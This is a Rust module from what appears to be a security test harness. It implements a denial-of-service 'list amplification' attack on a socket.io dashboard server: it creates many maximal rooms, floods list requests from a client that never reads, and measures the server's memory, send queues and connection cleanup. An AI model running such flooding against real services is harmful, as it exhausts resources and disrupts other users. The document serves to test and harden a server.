//! Attack 3, list amplification (issue 17, problem 2): the attacker creates
//! `--rooms` rooms on `/dashboard` (16 a connection, the default
//! `MAX_ROOMS_PER_CONNECTION`; names and descriptions at their longest, so
//! the list is as big as a room list gets), then one more `/dashboard`
//! client that never reads sends `--list-requests` `room-list-request`s (at
//! most 500 a second), each ~40 bytes asking for the whole list, and an
//! unprompted pong every 500 ms, for `--silent-hold-secs` (or until a write
//! fails); `--silent-clients` such clients share the requests' pace, each
//! sending `--list-requests`. Every 500 ms it looks at what the server still
//! holds of them: their socket.io sockets (`/health`'s count) and TCP
//! connections (the server's ends in `/proc/net/tcp`: established and owned
//! by the process, and how many bytes wait in the kernel's send queues).

use std::sync::Arc;
use std::time::{Duration, Instant};

use serde_json::{Value, json};
use tokio::sync::watch;

use super::{Ctx, Tally, loopback, outcome};
use crate::procfs::{rss_kib, server_tcp};
use crate::sio::{Client, Error, Packet, classify};
use crate::stats::round3;

const ROOMS_PER_CONNECTION: usize = 16;

/// Runs the attack; its figures.
pub async fn run(ctx: &Arc<Ctx>) -> Result<Value, Error> {
    let rooms: usize = ctx.args.get("rooms", 1000)?;
    let requests: u64 = ctx.args.get("list-requests", 1500)?;
    let src = loopback(4);
    let auth = ctx.auth("attacker", "");
    let (name, description) = ("n".repeat(100), "d".repeat(500));
    let (close, close_rx) = watch::channel(false);
    let mut hosts = Vec::new();
    let mut created = Tally::default();
    for first in (0..rooms).step_by(ROOMS_PER_CONNECTION) {
        let mut host = Client::connect_from(&ctx.addr, src, "/dashboard", Some(&auth)).await?;
        for i in first..rooms.min(first + ROOMS_PER_CONNECTION) {
            let body = format!(
                r#"{{"id":"list-{i}","name":"{name}","description":"{description}","host":"attacker","hostId":"attacker"}}"#
            );
            let id = host.emit_with_ack("room-created", &body).await?;
            created.add(outcome(&host.ack(id, |_| {}).await?));
        }
        // Each host keeps answering pings (and so its seats) until the attack ends.
        let mut close_rx = close_rx.clone();
        hosts.push(tokio::spawn(async move {
            loop {
                tokio::select! {
                    _ = close_rx.changed() => break,
                    frame = host.recv() => if frame.is_none() { return },
                }
            }
            host.close().await;
        }));
    }
    // How big one list is, read by a client that does read.
    let mut reader = Client::connect_from(&ctx.addr, src, "/dashboard", Some(&auth)).await?;
    let id = reader.emit_with_ack("room-list-request", "{}").await?;
    let mut list_bytes = 0;
    reader
        .ack(id, |body| {
            if body.starts_with("[\"server-room-list\"") {
                list_bytes = body.len();
            }
        })
        .await?;
    while list_bytes == 0 {
        let text = reader.next_text().await?;
        if let Packet::Event(body) = classify(&text)
            && body.starts_with("[\"server-room-list\"")
        {
            list_bytes = body.len();
        }
    }
    reader.close().await;
    let with_rooms = ctx.pid.and_then(rss_kib);

    let count: usize = ctx.args.get("silent-clients", 1)?;
    let hold: u64 = ctx.args.get("silent-hold-secs", 45)?;
    let mut silent = Vec::with_capacity(count);
    for _ in 0..count {
        silent.push(Client::connect_from(&ctx.addr, src, "/dashboard", Some(&auth)).await?);
    }
    let with_silent = super::sockets(&ctx.addr).await?;
    let server = ctx.addr.parse().ok();
    let peers: Vec<_> = silent.iter().map(Client::local_addr).collect();
    let started = Instant::now();
    let (mut sent, mut sent_bytes, mut pongs) = (0u64, 0u64, 0u64);
    let (mut write_failed, mut socket_gone, mut tcp_released, mut most_queued) = (None, None, None, 0u64);
    let mut next_pong = Instant::now();
    let deadline = started + Duration::from_secs(hold);
    let total = requests * count as u64;
    'hold: while Instant::now() < deadline {
        if Instant::now() >= next_pong {
            next_pong += Duration::from_millis(500);
            pongs += 1;
            // What the server still holds of them: socket.io sockets, TCP connections.
            if socket_gone.is_none() && super::sockets(&ctx.addr).await.is_ok_and(|n| n < with_silent) {
                socket_gone = Some(started.elapsed());
            }
            let mut queued = 0;
            for peer in &peers {
                match server.zip(*peer).and_then(|(s, p)| server_tcp(s, p)) {
                    Some((1, q, true)) => queued += q,
                    _ => drop(tcp_released.get_or_insert(started.elapsed())),
                }
            }
            most_queued = most_queued.max(queued);
            for client in &mut silent {
                if client.send("3".into()).await.is_err() {
                    write_failed = Some(started.elapsed());
                    break 'hold;
                }
            }
        } else if sent < total {
            let client = &mut silent[sent as usize % count];
            sent += 1;
            let frame = client.event_frame(Some(sent), "room-list-request", "{}");
            sent_bytes += frame.len() as u64;
            if client.send(frame).await.is_err() {
                write_failed = Some(started.elapsed());
                break;
            }
            tokio::time::sleep(Duration::from_millis(2)).await;
        } else {
            tokio::time::sleep_until(next_pong.into()).await;
        }
    }
    // A write failed: the server closed the connection. When was the socket gone? (bounded: 5 s)
    let gone_by = Instant::now() + Duration::from_secs(5);
    while write_failed.is_some() && socket_gone.is_none() && Instant::now() < gone_by {
        if super::sockets(&ctx.addr).await.is_ok_and(|n| n < with_silent) {
            socket_gone = Some(started.elapsed());
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    let held = ctx.pid.and_then(rss_kib);
    let secs = |d: Option<Duration>| d.map(|d| round3(d.as_secs_f64()));
    drop(silent);
    let _ = close.send(true);
    for host in hosts {
        let _ = host.await;
    }
    Ok(json!({
        "rooms": rooms, "roomsCreated": created.json(), "listBytes": list_bytes,
        "requestsSent": sent, "requestBytesSent": sent_bytes, "bytesAskedFor": sent * list_bytes as u64,
        "pongsSent": pongs, "rssWithRoomsKiB": with_rooms,
        "silentClients": count, "silentHeldSecs": hold, "rssAtEndOfHoldKiB": held,
        "silentSocketGoneAfterSecs": secs(socket_gone),
        "silentTcpReleasedByServerAfterSecs": secs(tcp_released), "silentWriteFailedAfterSecs": secs(write_failed),
        "serverSendQueueMaxBytes": most_queued,
    }))
}
